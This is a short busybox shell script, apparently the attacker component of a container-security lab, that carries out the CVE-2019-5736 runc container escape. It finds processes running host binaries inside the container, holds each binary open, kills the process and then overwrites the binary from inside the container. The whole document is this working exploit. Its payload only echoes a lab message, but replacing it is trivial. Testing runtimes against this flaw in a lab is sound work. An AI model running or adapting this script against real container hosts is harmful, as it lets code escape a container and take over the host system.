# Lab 19's attacker, root in the container: CVE-2019-5736 in busybox sh.
# It watches for a process whose binary is not the container's own busybox:
# a host's binary, running in here. It holds that binary open (fd 3), kills
# the process, and once nothing runs the binary any more (until then the
# kernel says ETXTBSY), writes through fd 3.
echo ready
while :; do
  for dir in /proc/[0-9]*; do
    pid=${dir#/proc/}
    exe=$(readlink $dir/exe 2>/dev/null) || continue
    [ "$exe" = /bin/busybox ] && continue
    # (command: a failed redirection of the special built-in exec would end the script)
    { command exec 3<"$dir/exe"; } 2>/dev/null || { echo "pid $pid ($exe): opening its binary was refused"; continue; }
    echo "pid $pid: holding its binary, $exe"
    kill -9 $pid
    for try in $(seq 500); do
      err=$(printf '#!/bin/sh\necho "overwritten from inside the container lab19"\n' 2>&1 >/proc/self/fd/3) && break
      case $err in *"Text file busy"*) usleep 10000;; *) break;; esac
    done
    if [ -z "$err" ]; then echo "pid $pid: WROTE its binary"; else echo "pid $pid: writing its binary was refused: ${err##*: }"; fi
    exec 3<&-
  done
done
